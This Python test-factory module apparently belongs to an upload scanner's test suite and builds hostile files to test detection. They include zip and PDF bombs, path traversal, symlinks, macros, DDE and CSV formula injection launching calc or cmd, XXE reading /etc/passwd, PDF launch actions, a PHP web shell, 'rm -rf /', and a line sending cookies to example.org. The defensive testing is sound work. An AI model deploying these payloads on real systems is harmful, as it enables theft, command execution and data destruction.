"""Hostile files, made by hand: what each is, the name it comes under, and how it is made."""

import stat
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.factories.pages import PDF
from tests.factories.uploads import (
    RELS,
    action,
    annotated,
    archive,
    linked,
    office,
    open_document,
    pdf,
)

FORGED_DOCUMENTS = ("pdf", "docx", "xlsx", "pptx", "odt", "ods", "odp", "txt", "csv", "ics")
FORGED_PICTURES = ("jpg", "jpeg", "png", "gif", "webp", "avif")
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
DISGUISED = {
    "leer": b"",
    "html": b"<!DOCTYPE html><html><script>alert(1)</script></html>",
    "html-mit-luft": b"\n\n   <html><body onload=alert(1)>",
    "html-mit-bom": b"\xef\xbb\xbf<script>alert(1)</script>",
    "html-utf16": "<html><script>alert(1)</script>".encode("utf-16"),
    "html-kommentar": b"<!-- %PDF-1.7 --><script>alert(1)</script>",
    "pdf-kopf": b"%PDF-1.7\n<html><script>alert(1)</script></html>",
    "gif-kopf": b"GIF89a/*<script>*/=1;alert(1)//",
    "png-kopf": b"\x89PNG\r\n\x1a\n<script>alert(1)</script>",
    "jpeg-kopf": b"\xff\xd8\xff\xe0\x00\x10JFIF<script>alert(1)</script>",
    "svg": SVG,
    "svg-xml": b'<?xml version="1.0"?>' + SVG,
    "xxe": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "javascript": b"fetch('https://example.org/'+document.cookie)",
    "php": b"<?php system($_GET['c']); ?>",
    "shell": b"#!/bin/sh\nrm -rf /\n",
    "exe": b"MZ\x90\x00\x03\x00\x00\x00PE\x00\x00",
    "elf": b"\x7fELF\x02\x01\x01\x00",
    "word97": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "rtf": b"{\\rtf1{\\object\\objdata 0105}}",
    "mhtml": b"MIME-Version: 1.0\nContent-Type: text/html\n\n<script>alert(1)</script>",
    "zip": archive([("boese.html", "<script>alert(1)</script>")]),
    "rar": b"Rar!\x1a\x07\x01\x00",
    "gzip": b"\x1f\x8b\x08\x00" + b"\0" * 20,
    "swf": b"CWS\x0a" + b"\0" * 30,
    "nullen": b"\0" * 500,
}


def _bomb(size, **options):
    return office("docx", ("word/media/a.xml", b"<a>" + b"\0" * size), **options)


def _many_small(kind, parts):
    """No part is large enough to be looked at for what it unpacks to."""
    return office(kind, *((f"word/{number}.txt", b"\0" * 900_000) for number in range(parts)))


def _nested(inner, times):
    return office("pptx", *((f"ppt/embeddings/{number}.xlsx", inner) for number in range(times)))


def _forged_sizes():
    """The list of contents promises a few bytes; the part unpacks to many."""
    content = bytearray(office("docx", ("word/a.bin", b"\0" * 5_000_000)))
    at = content.rindex(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(content)


def _many_entries():
    return office("docx", *((f"word/{number}.txt", b"") for number in range(6_000)))


def _encrypted_flag():
    content = bytearray(office())
    at = content.index(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def _symlink():
    link = zipfile.ZipInfo("word/link.txt")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    return office("docx", (link, "/etc/passwd"))


def _twice():
    return archive(
        [("[Content_Types].xml", "<x/>"), ("word/document.xml", "<x/>"), ("Word/document.xml", "<y/>")]
    )


def _object_stream_bomb():
    """To read the outlines, a stream has to be unpacked that is a thousand times its size."""
    packer = zlib.compressobj(9)
    packed = (
        packer.compress(b"1 0 <</Count 0>>")
        + b"".join(packer.compress(b" " * 1_000_000) for _ in range(150))
        + packer.flush()
    )
    parts = [
        b"2 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream\nendobj\n"
        % (len(packed), packed),
        b"3 0 obj\n<</Type/Page/Parent 4 0 R/MediaBox[0 0 9 9]/Resources<<>>>>\nendobj\n",
        b"4 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n",
        b"5 0 obj\n<</Type/Catalog/Pages 4 0 R/Outlines 1 0 R>>\nendobj\n",
    ]
    content, table = b"%PDF-1.7\n", struct.pack(">BIH", 0, 0, 65535) + struct.pack(">BIH", 2, 2, 0)
    for part in parts:
        table += struct.pack(">BIH", 1, len(content), 0)
        content += part
    start = len(content)
    table += struct.pack(">BIH", 1, start, 0)
    content += (
        b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 5 0 R/Length %d>>stream\n%s\nendstream\nendobj\n"
        % (len(table), table)
    )
    return content + b"startxref\n%d\n%%%%EOF\n" % start


def _attached(made, page):
    made.attachments["boese.exe"] = pikepdf.AttachedFileSpec(made, b"MZ\x90", filename="boese.exe")


def _named_script(made, page):
    made.Root.Names = Dictionary(
        JavaScript=Dictionary(
            Names=Array([String("a"), Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))])
        )
    )


def _page_script(made, page):
    page.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def _xfa(made, page):
    made.Root.AcroForm = Dictionary(XFA=made.make_stream(b"<xdp/>"), Fields=Array([]))


def _signed(made, page):
    made.Root.AcroForm = Dictionary(
        SigFlags=3,
        Fields=Array(
            [
                made.make_indirect(
                    Dictionary(
                        FT=Name.Sig, T=String("s"), V=Dictionary(ByteRange=[0, 1, 2, 3], Contents=String("x"))
                    )
                )
            ]
        ),
    )


def _elsewhere(made, page):
    page.Contents = made.make_stream(b"", F=String("http://example.org/x"))


def _deep(made, page):
    inner = Dictionary()
    for _level in range(90):
        inner = Dictionary(A=inner)
    made.Root.Deep = inner


def _hidden_name():
    return PDF.replace(
        b"/Pages 2 0 R>>", b"/Pages 2 0 R/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>>>", 1
    )


def _locked(**permissions):
    return pdf(encrypt=pikepdf.Encryption(owner="o", **permissions))


DDE = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
DDE_CODED = "<w:p><w:r><w:instrText>&#68;DEAUTO c:\\\\calc.exe</w:instrText></w:r></w:p>"
DDE_SPLIT = (
    "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\calc.exe</w:instrText></w:r>"
)
DRAWN = 'xmlns:d="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:x="http://www.w3.org/1999/xlink"'
SCRIPTED = 'xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
ENTITIES = '<!DOCTYPE a [<!ENTITY b "cc"><!ENTITY d "&b;&b;">]><a>&d;</a>'
DOCUMENTS = {
    "a zip bomb": ("bombe.docx", lambda: _bomb(30_000_000)),
    "a bomb beyond one part's limit": ("bombe.docx", lambda: _bomb(110_000_000)),
    "a bomb of many parts": ("bombe.docx", lambda: office("docx", *((f"word/{n}.txt", (b"%d" % n) * 900_000) for n in range(130)))),
    "too many parts": ("bombe.xlsx", lambda: _many_entries().replace(b"word/", b"xl/xx")),
    "a bomb in a workbook in a slide": ("bombe.pptx", lambda: office("pptx", ("ppt/embeddings/a.xlsx", office("xlsx", ("xl/a.txt", b"\0" * 50_000_000))))),
    "a bomb of many small parts": ("bombe.docx", lambda: _many_small("docx", 150)),
    "a bomb of many workbooks": ("bombe.pptx", lambda: _nested(_many_small("xlsx", 20), 40)),
    "too many parts in many workbooks": ("bombe.pptx", lambda: _nested(office("xlsx", *((f"xl/{n}.txt", b"") for n in range(800))), 10)),
    "files in files in files": ("puppe.pptx", lambda: office("pptx", ("ppt/embeddings/a.xlsx", office("xlsx", ("xl/embeddings/b.docx", office("docx", ("word/embeddings/c.docx", office()))))))),
    "a part larger than promised": ("groesse.docx", _forged_sizes),
    "a path upwards": ("pfad.docx", lambda: office("docx", ("../../etc/cron.d/x", "x"))),
    "a path from the root": ("pfad.docx", lambda: office("docx", ("/etc/passwd", "x"))),
    "a path with backslashes": ("pfad.docx", lambda: office("docx", ("..\\..\\x.txt", "x"))),
    "a path to a drive": ("pfad.docx", lambda: office("docx", ("C:/x.txt", "x"))),
    "a name with a line break": ("pfad.docx", lambda: office("docx", ("word/a\nb.txt", "x"))),
    "a link to a file": ("link.docx", _symlink),
    "a part twice": ("doppelt.docx", _twice),
    "parts with a password": ("passwort.docx", _encrypted_flag),
    "a document with a password": ("passwort.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000 + "EncryptedPackage".encode("utf-16-le")),
    "macros": ("makro.docx", lambda: office("docx", ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"))),
    "macros in capitals": ("makro.xlsx", lambda: office("xlsx", ("xl/VBAPROJECT.BIN", b"x"))),
    "a macro document by its own name": ("makro.docm", lambda: office("docx", ("word/vbaProject.bin", b"x"))),
    "a macro workbook by its own name": ("makro.xlsm", lambda: office("xlsx")),
    "a type that allows macros": ("makro.docx", lambda: office("docx", ("[Content_Types].xml", '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'))),
    "macros of Excel 4": ("makro.xlsx", lambda: office("xlsx", ("xl/macrosheets/sheet1.xml", "<x/>"))),
    "ActiveX": ("aktiv.docx", lambda: office("docx", ("word/activeX/activeX1.xml", "<x/>"))),
    "a program inside": ("programm.docx", lambda: office("docx", ("word/embeddings/a.exe", b"x"))),
    "a program under a quiet name": ("programm.docx", lambda: office("docx", ("word/embeddings/a.bin", b"MZ\x90\x00"))),
    "an OLE package": ("ole.pptx", lambda: office("pptx", ("ppt/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"))),
    "an archive under a quiet name": ("archiv.docx", lambda: office("docx", ("word/embeddings/a.bin", archive([("a.exe", b"MZ")])))),
    "a web page inside": ("seite.docx", lambda: office("docx", ("word/afchunk.mht", b"x"))),
    "a remote picture": ("fern.docx", lambda: office("docx", linked("image", "https://example.org/pixel.png"))),
    "a remote object": ("fern.docx", lambda: office("docx", linked("oleObject", "https://example.org/a.hta"))),
    "a remote frame": ("fern.docx", lambda: office("docx", linked("frame", "\\\\example.org\\a"))),
    "a linked workbook": ("fern.xlsx", lambda: office("xlsx", linked("externalLinkPath", "file:///C:/a.xlsx", part="xl/externalLinks/_rels/a.xml.rels"))),
    "a link that is a script": ("fern.docx", lambda: office("docx", linked("hyperlink", "javascript:alert(1)"))),
    "a field that starts a program": ("dde.docx", lambda: office(body=DDE)),
    "a field in references": ("dde.docx", lambda: office(body=DDE_CODED)),
    "a field in two runs": ("dde.docx", lambda: office(body=DDE_SPLIT)),
    "a short field in references": ("dde.docx", lambda: office(body='<w:fldSimple w:instr="&#x44;DE calc.exe"/>')),
    "a field in an encoding of its own": ("dde.docx", lambda: office("docx", ("word/a.xml", '<?xml version="1.0" encoding="cp037"?><a/>'.encode("cp037")))),
    "a link to another program": ("dde.xlsx", lambda: office("xlsx", ("xl/externalLinks/a.xml", '<x:ddeLink xmlns:x="x" ddeService="cmd"/>'))),
    "a button that starts a program": ("aktiv.pptx", lambda: office("pptx", ("ppt/slides/a.xml", '<a action="ppaction://program"/>'))),
    "elements without end": ("gross.docx", lambda: office("docx", ("word/a.xml", b"<a>&#65;" + b"<bcdefghi/><j/>" * 1_100_000 + b"</a>"), mode=zipfile.ZIP_STORED)),
    "entities": ("xxe.docx", lambda: office("docx", ("word/document.xml", ENTITIES))),
    "entities in UTF-16": ("xxe.docx", lambda: office("docx", ("word/document.xml", ENTITIES.encode("utf-16")))),
    "entities in the properties": ("xxe.xlsx", lambda: office("xlsx", ("docProps/core.xml", ENTITIES))),
    "links without end": (
        "gross.docx",
        lambda: office("docx", linked("hyperlink", "https://example.org/" + "a1b2 " * 1_100_000), mode=zipfile.ZIP_STORED),
    ),
    "a part that is no XML": ("kaputt.docx", lambda: office("docx", ("word/styles.xml", "<a><b></a>"))),
    "links that are no XML": ("kaputt.docx", lambda: office("docx", ("word/_rels/document.xml.rels", RELS[:40]))),
    "a signed document": ("signiert.docx", lambda: office("docx", ("_xmlsignatures/sig1.xml", "<x/>"))),
    "a workbook as document": ("falsch.docx", lambda: office("xlsx")),
    "a web page in front": ("vorn.docx", lambda: b"<script>alert(1)</script>" + office()),
    "half a document": ("halb.docx", lambda: office()[:300]),
    "text as OpenDocument table": ("falsch.ods", lambda: open_document("odt")),
    "a type of its own": ("falsch.odt", lambda: open_document("odt", mimetype="text/html")),
    "Basic": ("makro.odt", lambda: open_document("odt", ("Basic/Standard/Module1.xml", "<x/>"))),
    "Python": ("makro.ods", lambda: open_document("ods", ("Scripts/python/a.py", "x"))),
    "a script at an event": ("makro.odt", lambda: open_document(body='<script:event-listener xlink:href="vnd.sun.star.script:a.py$x?language=Python"/>')),
    "a remote OpenDocument picture": ("fern.odp", lambda: open_document("odp", body='<draw:image xlink:href="https://example.org/a.png"/>')),
    "a remote picture under another prefix": ("fern.odt", lambda: open_document(body=f'<d:image {DRAWN} x:href="https://example.org/a.png"/>')),
    "a remote picture in references": ("fern.odt", lambda: open_document(body='<draw:image xlink:href="&#104;ttp://example.org/a.png"/>')),
    "a script under another prefix": ("makro.odt", lambda: open_document(body=f'<s:event-listener {SCRIPTED} s:language="ooo:Basic"/>')),
    "a script in references": ("makro.odt", lambda: open_document(body='<text:a xlink:href="vnd.sun.star.&#115;cript:a.py$x"/>')),
    "a remote section": ("fern.odt", lambda: open_document(body='<text:section-source xlink:href="../../geheim.odt"/>')),
    "an OpenDocument with a password": ("passwort.odt", lambda: open_document("odt", ("META-INF/manifest.xml", "<m><encryption-data/></m>"))),
    "a signed OpenDocument": ("signiert.odt", lambda: open_document("odt", ("META-INF/documentsignatures.xml", "<x/>"))),
    "JavaScript at opening": ("aktiv.pdf", lambda: action("JavaScript", JS=String("app.alert(1)"))),
    "a program at opening": ("aktiv.pdf", lambda: action("Launch", F=String("cmd.exe"))),
    "a form that sends itself": ("aktiv.pdf", lambda: action("SubmitForm", F=String("https://example.org/"))),
    "another file at opening": ("aktiv.pdf", lambda: action("GoToR", F=String("\\\\example.org\\a.pdf"))),
    "an attachment at opening": ("aktiv.pdf", lambda: action("GoToE")),
    "data at opening": ("aktiv.pdf", lambda: action("ImportData", F=String("a.fdf"))),
    "a film at opening": ("aktiv.pdf", lambda: action("Rendition")),
    "JavaScript by name": ("aktiv.pdf", lambda: pdf(_named_script)),
    "JavaScript of a page": ("aktiv.pdf", lambda: pdf(_page_script)),
    "JavaScript in a packed object": ("aktiv.pdf", lambda: pdf(_named_script, object_stream_mode=pikepdf.ObjectStreamMode.generate)),
    "JavaScript under a coded name": ("aktiv.pdf", _hidden_name),
    "JavaScript of a note": ("aktiv.pdf", lambda: annotated(Subtype=Name.Link, A=Dictionary(S=Name.JavaScript, JS=String("x")))),
    "Flash": ("aktiv.pdf", lambda: annotated(Subtype=Name.RichMedia)),
    "a 3D scene": ("aktiv.pdf", lambda: annotated(Subtype=Name("/3D"))),
    "a form of XFA": ("aktiv.pdf", lambda: pdf(_xfa)),
    "a program attached": ("anhang.pdf", lambda: pdf(_attached)),
    "a file in a note": ("anhang.pdf", lambda: annotated(Subtype=Name.FileAttachment, FS=Dictionary(EF=Dictionary()))),
    "a signed PDF": ("signiert.pdf", lambda: pdf(_signed)),
    "a page that lies elsewhere": ("fern.pdf", lambda: pdf(_elsewhere)),
    "a nest": ("tief.pdf", lambda: pdf(_deep)),
    "a PDF with a password": ("passwort.pdf", lambda: _locked(user="u")),
    "a PDF without leave to copy": ("passwort.pdf", lambda: _locked(user="")),
    "a PDF without pages": ("leer.pdf", lambda: PDF.replace(b"/Kids[3 0 R]/Count 1", b"/Kids[]/Count 0")),
    "half a PDF": ("halb.pdf", lambda: PDF[:60]),
    "a PDF bomb": ("bombe.pdf", _object_stream_bomb),
    "a web page before the PDF": ("vorn.pdf", lambda: b"<script>alert(1)</script>" + PDF),
    "a formula": ("formel.csv", lambda: b"Ort;Zahl\nK;=1+1\n"),
    "a formula that starts a program": ("formel.csv", lambda: b"a,b\n1,\"=cmd|'/C calc'!A0\"\n"),
    "a formula behind a sign": ("formel.csv", lambda: b"a;b\n1;@SUM(A1:A9)\n2;+cmd|'/C calc'!A0\n"),
    "a table with a zero byte": ("null.csv", lambda: b"a;b\n1;\0\n"),
    "a text that runs backwards": ("bidi.txt", "Rechnung \u202efdp.exe".encode),
    "an appointment that is a page": ("termin.ics", lambda: b"Guten Tag"),
    "an SVG": ("bild.svg", lambda: SVG),
    "a web page": ("seite.html", lambda: b"<script>alert(1)</script>"),
    "an old Word file": ("alt.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    "an archive": ("alles.zip", lambda: archive([("a.txt", "x")])),
}  # fmt: skip
